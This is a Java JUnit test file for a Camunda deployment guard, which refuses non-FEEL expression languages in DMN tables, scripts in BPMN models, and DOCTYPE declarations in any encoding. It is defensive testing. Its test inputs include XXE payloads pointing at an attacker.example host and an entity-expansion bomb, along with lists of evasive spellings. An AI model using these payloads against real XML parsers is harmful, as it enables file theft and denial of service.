package com.daocloud.support.deployment;

import static com.daocloud.support.deployment.ModelCorpus.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import com.daocloud.support.deployment.DeploymentGuard.Author;
import com.daocloud.support.deployment.DeploymentRefusedException.Reason;
import com.daocloud.support.deployment.ModelCorpus.Encoding;
import com.daocloud.support.deployment.ModelCorpus.Place;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The deployment guard over the corpus of {@link ModelCorpus}: every spelling of an expression
 * language on every kind of DMN element, every way a process model asks for a script, and a DOCTYPE
 * in every encoding. The guard reads the parsed document, so none of them hides from it.
 */
class DeploymentGuardTest {

  static final Author ANALYST = Author.analyst("analyst");
  static final Author ADMINISTRATOR = new Author("demo", true);

  // --- Finding 3 and 12: expression languages in decisions --------------------------------------

  /** Every spelling that Camunda's DMN engine would not evaluate as FEEL. */
  static final List<String> NOT_FEEL = List.of(
      "expressionLanguage=\"juel\"", "expressionLanguage=\"JUEL\"", "expressionLanguage=\"Juel\"",
      "expressionLanguage=' juel '", "expressionLanguage='juel'", "expressionLanguage = \"juel\"",
      "expressionLanguage=\"juel&#10;\"", "expressionLanguage=\"&#106;uel\"",
      "other:expressionLanguage=\"juel\"", "ExpressionLanguage=\"juel\"",
      "expressionLanguage=\"groovy\"", "expressionLanguage=\"javascript\"", "expressionLanguage=\"js\"",
      "expressionLanguage=\"ecmascript\"", "expressionLanguage=\"graal.js\"",
      "expressionLanguage=\"python\"", "expressionLanguage=\"jython\"", "expressionLanguage=\"jruby\"",
      "expressionLanguage=\"ruby\"", "expressionLanguage=\"kotlin\"",
      // Not FEEL to the engine, which compares these character for character: a script engine's name
      "expressionLanguage=\" feel \"", "expressionLanguage=\"feel \"",
      "expressionLanguage=\"https://www.omg.org/spec/DMN/20191111/FEEL\"",
      "expressionLanguage=\"HTTPS://WWW.OMG.ORG/SPEC/DMN/20191111/FEEL/\"");

  /** Every spelling the engine evaluates as FEEL, and no attribute at all (FEEL by default). */
  static final List<String> FEEL = List.of("", "expressionLanguage=\"feel\"",
      "expressionLanguage='FEEL'", "expressionLanguage=\"Feel\"",
      "expressionLanguage=\"http://www.omg.org/spec/FEEL/20140401\"",
      "expressionLanguage=\"http://www.omg.org/spec/DMN/20180521/FEEL/\"",
      "expressionLanguage=\"https://www.omg.org/spec/DMN/20191111/FEEL/\"",
      "expressionLanguage=\"https://www.omg.org/spec/DMN/20211108/FEEL/\"",
      "expressionLanguage=\"https://www.omg.org/spec/DMN/20230324/FEEL/\"");

  static Stream<Arguments> notFeelEverywhere() {
    return everywhere(NOT_FEEL);
  }

  static Stream<Arguments> feelEverywhere() {
    return everywhere(FEEL);
  }

  /** Each attribute on each kind of element. */
  private static Stream<Arguments> everywhere(List<String> attributes) {
    return Stream.of(Place.values())
        .flatMap(place -> attributes.stream().map(attribute -> Arguments.of(place, attribute)));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("notFeelEverywhere")
  @DisplayName("Finding 3: an analyst's table naming any language but FEEL, on any element, is refused")
  void analystsWriteFeelOnly(Place place, String attribute) {
    String table = ModelCorpus.decision("corpus-table", place, attribute, "\"x\"");

    DeploymentRefusedException refused = refusal("corpus-table.dmn", table, ANALYST);

    assertThat(refused.reason()).isEqualTo(Reason.EXPRESSION_LANGUAGE);
    assertThat(refused).hasMessageContaining("'corpus-table.dmn'")
        .hasMessageContaining("policy analysts write FEEL only")
        .hasMessageContaining(element(place));
  }

  @ParameterizedTest(name = "{0}: {1}")
  @MethodSource("feelEverywhere")
  @DisplayName("Finding 3: FEEL in every spelling the engine knows, or no expressionLanguage at all, is an analyst's to deploy")
  void feelIsAccepted(Place place, String attribute) {
    String table = ModelCorpus.decision("corpus-table", place, attribute, "\"x\"");

    assertThatCode(() -> DeploymentGuard.checkNew("corpus-table.dmn", utf8(table), ANALYST))
        .doesNotThrowAnyException();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"expressionLanguage=\"juel\"", "expressionLanguage='JUEL'"})
  @DisplayName("Finding 3: an administrator's own table may use JUEL, which the engine sandboxes")
  void administratorsMayWriteJuel(String attribute) {
    String table = ModelCorpus.decision("corpus-table", Place.OUTPUT_ENTRY, attribute, "\"x\"");

    assertThatCode(() -> DeploymentGuard.checkNew("corpus-table.dmn", utf8(table), ADMINISTRATOR))
        .doesNotThrowAnyException();
  }

  @Test
  @DisplayName("Finding 3: an administrator's JUEL in one of the policy's tables is refused before the gate evaluates it; its code never runs")
  void administratorsPolicyTablesAreFeelOnly(@TempDir Path dir) {
    Path canary = dir.resolve("admin-policy-table-ran");
    String table = PolicyGateTest.withJuelCanary(PolicyGateTest.table(DecisionContract.RESPONSE_SLA),
        canary);

    DeploymentRefusedException refused = refusal("response-sla.dmn", table, ADMINISTRATOR);

    assertThat(refused.reason()).isEqualTo(Reason.EXPRESSION_LANGUAGE);
    assertThat(refused).hasMessageContaining("FEEL only: response-sla: outputEntry "
        + "'Rule_Professional_L1_DiscussionCadence'");
    assertThat(canary).doesNotExist();
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"expressionLanguage=\"groovy\"", "expressionLanguage=\"javascript\"",
      "expressionLanguage=\"graal.js\"", "expressionLanguage=\"python\"", "expressionLanguage=\" juel \""})
  @DisplayName("Finding 12: no one's table names a script language, administrators' included")
  void noOneWritesScriptLanguages(String attribute) {
    String table = ModelCorpus.decision("corpus-table", Place.INPUT_EXPRESSION, attribute, "a");

    DeploymentRefusedException refused = refusal("corpus-table.dmn", table, ADMINISTRATOR);

    assertThat(refused.reason()).isEqualTo(Reason.EXPRESSION_LANGUAGE);
    assertThat(refused).hasMessageContaining("never in a script language")
        .hasMessageContaining("inputExpression 'InputExpression_A'");
  }

  // --- Finding 12: scripts in process models ----------------------------------------------------

  static Stream<Arguments> scripts() {
    return Stream.of(
        Arguments.of("a script task", "<bpmn:scriptTask id=\"Task_Script\" scriptFormat=\"groovy\">"
            + "<bpmn:script>1</bpmn:script></bpmn:scriptTask>", "scriptTask 'Task_Script'"),
        Arguments.of("a script task without a scriptFormat, in the default namespace",
            "<scriptTask xmlns=\"" + ModelCorpus.BPMN_NS + "\" id=\"Task_Script\"/>",
            "scriptTask 'Task_Script'"),
        Arguments.of("a condition with language=\"groovy\"", ModelCorpus.conditionalFlow("language=\"groovy\""),
            "conditionExpression in sequenceFlow 'Flow_Conditional': language=\"groovy\""),
        Arguments.of("a condition with language='javascript'",
            ModelCorpus.conditionalFlow("language='javascript'"), "language=\"javascript\""),
        Arguments.of("a condition with language=\"juel\" (the JUEL script engine)",
            ModelCorpus.conditionalFlow("language=\"juel\""), "language=\"juel\""),
        Arguments.of("a condition with camunda:resource and language",
            ModelCorpus.conditionalFlow("language=\"Groovy\" camunda:resource=\"deployment://c.groovy\""),
            "language=\"Groovy\""),
        Arguments.of("camunda:script in an execution listener", ModelCorpus.taskWithExtensions(
                "<camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">1"
                    + "</camunda:script></camunda:executionListener>"), "script in userTask 'Task_1'"),
        Arguments.of("camunda:script in a task listener", ModelCorpus.taskWithExtensions(
                "<camunda:taskListener event=\"create\"><camunda:script scriptFormat=\"javascript\">1"
                    + "</camunda:script></camunda:taskListener>"), "scriptFormat=\"javascript\""),
        Arguments.of("camunda:script in an input parameter", ModelCorpus.taskWithExtensions(
                "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script "
                    + "scriptFormat=\"python\">1</camunda:script></camunda:inputParameter>"
                    + "</camunda:inputOutput>"), "scriptFormat=\"python\""),
        Arguments.of("camunda:script in an output parameter", ModelCorpus.taskWithExtensions(
                "<camunda:inputOutput><camunda:outputParameter name=\"x\"><camunda:script "
                    + "scriptFormat=\"ECMAScript\" camunda:resource=\"deployment://x.js\"/>"
                    + "</camunda:outputParameter></camunda:inputOutput>"), "scriptFormat=\"ECMAScript\""),
        Arguments.of("activiti:script (the engine's old namespace) in a listener",
            ModelCorpus.taskWithExtensions("<activiti:executionListener event=\"end\">"
                + "<activiti:script scriptFormat=\"groovy\">1</activiti:script>"
                + "</activiti:executionListener>"), "scriptFormat=\"groovy\""),
        Arguments.of("a scriptFormat on another element",
            "<bpmn:serviceTask id=\"Task_Service\" camunda:scriptFormat=\"groovy\" "
                + "camunda:expression=\"${true}\"/>", "serviceTask 'Task_Service': camunda:scriptFormat"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("scripts")
  @DisplayName("Finding 12: a process with a script anywhere is refused, an administrator's too")
  void scriptsAreRefused(String label, String body, String named) {
    String process = ModelCorpus.process("corpus-process", body);

    DeploymentRefusedException refused = refusal("corpus-process.bpmn", process, ADMINISTRATOR);

    assertThat(refused.reason()).isEqualTo(Reason.SCRIPT);
    assertThat(refused).hasMessageContaining("contains a script").hasMessageContaining(named);
    assertThat(refusal("corpus-process.bpmn20.xml", process, Author.APPLICATION).reason())
        .isEqualTo(Reason.SCRIPT);
  }

  @Test
  @DisplayName("Finding 12: a script in a decision table is refused (camunda:script is a script wherever it is)")
  void scriptsInDecisionsAreRefused() {
    String table = ModelCorpus.decision("corpus-table", Place.OUTPUT_ENTRY, "", "\"x\"")
        .replace("<decisionTable", "<extensionElements><camunda:script scriptFormat=\"groovy\">1"
            + "</camunda:script></extensionElements><decisionTable");

    assertThat(refusal("corpus-table.dmn", table, ADMINISTRATOR).reason()).isEqualTo(Reason.SCRIPT);
  }

  @Test
  @DisplayName("Finding 12: a process definitions' expressionLanguage naming a script engine is refused; XPath (BPMN's default) is not")
  void processExpressionLanguage() {
    String groovy = ModelCorpus.process("corpus-process", " expressionLanguage=\"groovy\"", "");
    String xpath = ModelCorpus.process("corpus-process",
        " expressionLanguage=\"http://www.w3.org/1999/XPath\"", "");

    assertThat(refusal("corpus-process.bpmn", groovy, ADMINISTRATOR).reason())
        .isEqualTo(Reason.EXPRESSION_LANGUAGE);
    assertThatCode(() -> DeploymentGuard.checkNew("corpus-process.bpmn", utf8(xpath), ADMINISTRATOR))
        .doesNotThrowAnyException();
  }

  // --- Finding 12: DOCTYPE in every encoding ----------------------------------------------------

  @ParameterizedTest(name = "{0}")
  @MethodSource("encodings")
  @DisplayName("Finding 12: a DOCTYPE is refused in every encoding; where the parser cannot read the encoding at all, the model is refused as unreadable")
  void doctypeIsRefusedInEveryEncoding(Encoding encoding) {
    byte[] bytes = encoding.encode(ModelCorpus.doctypeDecision(encoding.declaration()));

    DeploymentRefusedException asAnalyst = refusal("xxe.dmn", bytes, ANALYST);
    DeploymentRefusedException asAdministrator = refusal("xxe.dmn", bytes, ADMINISTRATOR);

    Reason expected = encoding.readable() ? Reason.DOCTYPE : Reason.UNREADABLE;
    assertThat(asAnalyst.reason()).isEqualTo(expected);
    assertThat(asAdministrator.reason()).isEqualTo(expected);
    assertThat(asAnalyst).hasMessageContaining(encoding.readable() ? "declares a DOCTYPE" : "is not XML")
        .hasMessageNotContaining("root:");
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("encodings")
  @DisplayName("Finding 12: the same model without a DOCTYPE passes in every encoding the engine can read, so the refusal above is the DOCTYPE's")
  void readableEncodingsPassWithoutDoctype(Encoding encoding) {
    byte[] bytes = encoding.encode(ModelCorpus.plainDecision(encoding.declaration()));

    if (encoding.readable()) {
      assertThatCode(() -> DeploymentGuard.checkNew("plain.dmn", bytes, ANALYST))
          .doesNotThrowAnyException();
    } else {
      assertThat(refusal("plain.dmn", bytes, ANALYST).reason()).isEqualTo(Reason.UNREADABLE);
    }
  }

  static Stream<Encoding> encodings() {
    return Stream.of(ModelCorpus.ENCODINGS);
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {
      "<!DOCTYPE definitions>",
      "<!DOCTYPE definitions SYSTEM \"http://attacker.example/x.dtd\">",
      "<!DOCTYPE definitions [<!ENTITY % p SYSTEM \"http://attacker.example/p\"> %p;]>",
      "<!DOCTYPE definitions [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
          + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>",
      "<!-- a comment first --><!DOCTYPE definitions>"})
  @DisplayName("Finding 12: every kind of DOCTYPE is refused before its declarations are read (external DTD, parameter entities, entity expansion)")
  void everyDoctypeIsRefused(String doctype) {
    String xml = "<?xml version=\"1.0\"?>" + doctype + "<definitions xmlns=\"" + ModelCorpus.DMN_NS
        + "\" id=\"d\" name=\"d\" namespace=\"x\"/>";

    assertThat(refusal("doctype.dmn", xml, ADMINISTRATOR).reason()).isEqualTo(Reason.DOCTYPE);
    assertThat(refusal("doctype.bpmn", xml, ADMINISTRATOR).reason()).isEqualTo(Reason.DOCTYPE);
  }

  @Test
  @DisplayName("Resources that are not XML (Camunda Forms, JSON) are not the guard's business, whatever their text says")
  void formsAreLeftAlone() {
    String form = "{\"components\":[{\"label\":\"<!DOCTYPE x> scriptFormat=groovy language=\\\"js\\\"\","
        + "\"type\":\"textfield\",\"key\":\"note\"}],\"type\":\"default\",\"id\":\"Form_Note\"}";

    assertThatCode(() -> DeploymentGuard.checkNew("form-note.form", utf8(form), ADMINISTRATOR))
        .doesNotThrowAnyException();
    assertThatCode(() -> DeploymentGuard.checkNew("notes.json", utf8(form), ANALYST))
        .doesNotThrowAnyException();
  }

  @Test
  @DisplayName("Our own models pass as their authors deploy them: dmn/ as an analyst (FEEL only), bpmn/ as the application")
  void shippedModelsPass() throws IOException {
    for (Path file : files("dmn", ".dmn")) {
      assertThatCode(() -> DeploymentGuard.checkNew(file.getFileName().toString(), Files.readAllBytes(file),
          ANALYST)).as(file.toString()).doesNotThrowAnyException();
    }
    for (Path file : files("bpmn", ".bpmn")) {
      assertThatCode(() -> DeploymentGuard.checkNew(file.getFileName().toString(), Files.readAllBytes(file),
          Author.APPLICATION)).as(file.toString()).doesNotThrowAnyException();
    }
  }

  // --- Stored deployments that the engine loads again -------------------------------------------

  @Test
  @DisplayName("A stored policy decision that is not FEEL only is not loaded again, whoever stored it")
  void storedGovernedJuelIsNotLoaded() {
    String governed = ModelCorpus.decision(DecisionContract.CHANGE_NOTICE, Place.OUTPUT_ENTRY,
        "expressionLanguage=\"juel\"", "\"x\"");
    String other = ModelCorpus.decision("corpus-table", Place.OUTPUT_ENTRY,
        "expressionLanguage=\"juel\"", "\"x\"");

    DeploymentRefusedException refused = catchThrowableOfType(
        () -> DeploymentGuard.checkStored("change-notice.dmn", utf8(governed)),
        DeploymentRefusedException.class);

    assertThat(refused).isNotNull();
    assertThat(refused.reason()).isEqualTo(Reason.EXPRESSION_LANGUAGE);
    assertThatCode(() -> DeploymentGuard.checkStored("corpus-table.dmn", utf8(other)))
        .doesNotThrowAnyException();
  }

  // --- helpers ---------------------------------------------------------------------------------

  private static DeploymentRefusedException refusal(String name, String xml, Author author) {
    return refusal(name, utf8(xml), author);
  }

  private static DeploymentRefusedException refusal(String name, byte[] bytes, Author author) {
    DeploymentRefusedException refused = catchThrowableOfType(
        () -> DeploymentGuard.checkNew(name, bytes, author), DeploymentRefusedException.class);
    assertThat(refused).as("refused: " + name).isNotNull();
    return refused;
  }

  /** How the refusal names the element at each place. */
  private static String element(Place place) {
    return switch (place) {
      case DEFINITIONS -> "definitions 'Definitions_corpus-table'";
      case INPUT_EXPRESSION -> "inputExpression 'InputExpression_A'";
      case INPUT_ENTRY -> "inputEntry 'Rule_1_In'";
      case OUTPUT_ENTRY -> "outputEntry 'Rule_1_Out'";
      case INPUT_VALUES -> "inputValues 'InputValues_A'";
      case LITERAL_EXPRESSION -> "literalExpression 'LiteralExpression_C'";
    };
  }

  private static List<Path> files(String folder, String suffix) throws IOException {
    try (Stream<Path> files = Files.list(Path.of(folder))) {
      List<Path> found = files.filter(p -> p.toString().endsWith(suffix)).sorted().toList();
      assertThat(found).as(folder).isNotEmpty();
      return found;
    }
  }
}
